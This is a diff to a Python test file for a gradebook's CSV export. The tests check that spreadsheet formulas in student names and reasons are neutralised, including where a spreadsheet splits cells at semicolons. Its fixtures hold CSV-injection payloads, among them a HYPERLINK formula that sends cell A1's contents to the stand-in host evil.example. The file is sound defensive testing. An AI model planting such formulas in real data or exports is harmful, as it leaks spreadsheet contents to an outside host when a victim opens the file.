@@ -74,15 +74,27 @@ def test_a_formula_in_a_name_or_reason_is_text_in_grades_csv() -> None:
     rows = list(csv.reader(io.StringIO(text)))
     assert rows[1] == ["'" + FORMULAS[0], "", "2", "", "ungradable", "'" + FORMULAS[0]]
     # The csv module's own quoting for the embedded quotes: the line as a spreadsheet reads it.
-    assert text.splitlines()[1] == '"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")",,2,,ungradable,"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")"'
-    assert [row[0] for row in rows[1:]] == ["'" + name for name in FORMULAS]
-    assert [row[-1] for row in rows[1:]] == ["'" + name for name in FORMULAS]
+    assert text.splitlines()[1] == '"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")","",2,"","ungradable","\'=HYPERLINK(""http://evil.example/?""&A1,""click"")"'
+    shown = ["'" + name.replace("\t=", "\t'=") for name in FORMULAS]  # after a tab too: a cell where tabs split
+    assert [row[0] for row in rows[1:]] == shown
+    assert [row[-1] for row in rows[1:]] == shown
 
 
 def test_grades_csv_keeps_numbers_numeric_and_plain_names_as_they_are() -> None:
     text = _gradebook.grades_csv([_doc("ada", score=-1), _doc("o'neil=", score=0)], ["cumsum"])
-    assert text.splitlines()[1:] == ["ada,-1,2,-1,graded,", "o'neil=,0,2,0,graded,"]
+    assert text.splitlines()[1:] == ['"ada",-1,2,-1,"graded",""', '"o\'neil=",0,2,0,"graded",""']
     assert _gradebook.cell(-3) == -3 and _gradebook.cell(-0.5) == -0.5 and _gradebook.cell("-3") == "'-3"
+
+
+@pytest.mark.parametrize("name", ["x;=1+1;", "y;=HYPERLINK(ZEICHEN(104));", "z;+1+1", "w\t;@SUM(A1)"])
+def test_a_formula_after_a_semicolon_stays_text_where_a_spreadsheet_splits_at_semicolons(name: str) -> None:
+    """Many locales' spreadsheets split a .csv at `;` (red team, round 11): every text cell is
+    quoted, so the name stays one cell that starts with its first character."""
+    text = _gradebook.grades_csv([_doc(name, reason=name)], ["cumsum"])
+    for delimiter in (",", ";"):
+        for row in csv.reader(io.StringIO(text), delimiter=delimiter):
+            cells = [c for c in row if c.strip()]  # not the line's end, left over where `;` splits a quoted cell
+            assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells), (delimiter, row)
 
 
 def test_a_student_id_column_is_neutralised_too() -> None:
